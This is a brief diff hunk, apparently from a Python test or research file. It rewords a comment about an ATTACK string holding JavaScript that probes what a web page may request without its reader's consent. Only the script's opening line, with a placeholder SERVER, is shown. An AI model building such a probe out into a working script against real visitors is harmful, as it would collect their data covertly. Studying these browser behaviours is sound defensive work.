@@ -45,7 +45,7 @@ class Address(str):
 
 TINY = {"members": 1, "steps": 100_000, "patch": [16, 16, 16]}
 
-# What a page may try without asking its reader: each entry ends in whether something was read.
+# Requests that a page may send without consent of its reader: each entry is whether data were read.
 ATTACK = """
 (async () => {
   const server = SERVER, found = [];
